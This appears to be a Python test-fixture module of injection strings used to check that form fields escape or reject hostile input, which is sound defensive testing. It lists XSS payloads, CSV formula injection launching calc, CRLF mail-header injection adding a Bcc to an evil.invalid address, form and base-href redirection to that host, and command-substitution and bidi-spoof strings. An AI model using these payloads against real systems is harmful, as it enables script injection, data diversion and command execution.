"""Texts that break out of HTML, attributes, templates, style sheets, CSV cells, mail headers or sentences, wherever one of these
takes text for markup. Each is a text that somebody might type, so each field either takes it and shows it literally, or refuses it."""

# At most 90 characters: an ask, a reply, an event, a message. `hit` is what the browser test would see run.
LONG = [
    "<script>hit(1)</script>",
    "\"><img src=x onerror=hit(2)>",
    "'><svg/onload=hit(3)> '\"`",
    "javascript:hit(4)//",
    "{{{csrf_token}}}{{#has_stores}}{{>head}}{{/has_stores}}{{=<% %>=}}",
    "<svg><style>*{display:none}</style><animate onbegin=hit(6) attributeName=x>",
    "<math><mtext><mglyph><style><img src=x onerror=hit(7)></style>",
    "</title></textarea></style></bdi><iframe src=//evil.invalid/8>",
    "=cmd|'/C calc'!A0",
    "+HYPERLINK(\"http://evil.invalid/10\";\"look\")",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "<!--><b onclick=hit(13)> --!> <!-- ",
    "&lt;script&gt;hit(14)&#60;/script&#x3e; &amp &nbsp &#0; &unknown;",
    "+ADw-script+AD4-hit(15)+ADw-/script+AD4-",
    "\"; background:url(//evil.invalid/16); } *{color:red} /*",
    "%3Cscript%3Ehit(17)%3C/script%3E%0d%0aSet-Cookie:%20hit=17",
    "=?utf-8?Q?x=0D=0ABcc=3A_evil=40evil.invalid?= \\r\\nBcc: evil",
    "<base href=//evil.invalid/><meta http-equiv=refresh content=0;url=//evil.invalid/>",
    "<input name=csrf_token autofocus onfocus=hit(20)><form action=//evil.invalid/>",
    "\uff1cscript\uff1ehit(21)\uff1c/script\uff1e \uff1d1+1",
    "\\u003cscript\\u003ehit(22)\\u003c/script\\u003e",
    "${hit(23)} #{7*7} <%= 7*7 %> {% if x %} `id` $(id)",
    "\u05e2\u05d1\u05e8\u05d9\u05ea <b dir=rtl> \u0627\u0644\u0633\u0644\u0627\u0645 >\"<",
    "<a href=\"https://evil.invalid/25\" target=_blank>click</a> ]]> <![CDATA[",
    "{0} {1} {2} %s %n %x {count}",
    "W" * 90,
    "e\u0301\u0323\u0302\u0307 \U0001f469\u200d\U0001f33e <object data=//evil.invalid/28>",
]

# At most 18 characters: labels of the strip.
SHORT = [
    "\"><svg onload=h()>",
    "<img src=//e.test>",
    "<b>{{{x}}}</b>",
    "=1+1|cmd",
    "' onclick=h() x='",
    "<!--",
    "&lt;b&gt;&#60 &",
    "@->+A1",
    "-{0}{1}%s",
    "</title><i>",
    "javascript:h()",
    "\uff1d1\uff1cscript\uff1e",
]

# What an address may hold before its @, if anybody likes (RFC 5322 atoms).
EMAIL = "'{{{x}}}&lt=`|~!#$%^*/?+-"

# What a mail server may answer; of it one line of ASCII is kept.
REFUSAL = "5.1.1 \"><script>hit(40)</script><img src=//evil.invalid/41 onerror=hit(41)> '{{{x}}} {0} %s &lt;b&gt;</bdi></td><!--"

# No field takes these: control characters, what turns the direction of writing, what cannot be seen, and heaps of marks.
REFUSED = {
    "a line break": "one\r\nBcc: evil@evil.invalid",
    "a tab": "\t=1+1",
    "a carriage return": "\r=1+1",
    "NUL": "a\u0000b",
    "an escape of a terminal": "\u001b[2Jhit",
    "a C1 control": "a\u009bb",
    "a line separator": "a\u2028b",
    "an override of the direction": "cod\u202elld.exe",
    "an isolate of a direction": "a\u2066b",
    "a zero-width space": "pay\u200bpal",
    "a byte order mark": "\ufeff=1+1",
    "invisible tag letters": "a\U000e0041\U000e0042",
    "marks upon marks": "Z" + "\u0335\u0337" * 20,
}
